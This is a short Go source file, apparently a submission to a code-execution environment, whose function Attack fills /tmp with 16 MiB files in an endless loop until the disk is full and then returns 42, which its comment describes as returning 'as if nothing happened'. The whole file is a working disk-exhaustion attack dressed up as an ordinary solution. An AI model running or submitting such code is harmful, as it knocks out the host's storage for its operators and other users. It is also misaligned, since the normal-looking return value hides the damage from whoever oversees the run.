package solution

import (
	"fmt"
	"os"
)

// Writes files until the disk is full, then returns as if nothing happened.
func Attack() int {
	chunk := make([]byte, 1<<20)
	for i := 0; ; i++ {
		f, err := os.Create(fmt.Sprintf("/tmp/fill-%d", i))
		if err != nil {
			return 42
		}
		for j := 0; j < 16; j++ {
			if _, err := f.Write(chunk); err != nil {
				f.Close()
				return 42
			}
		}
		f.Close()
	}
}
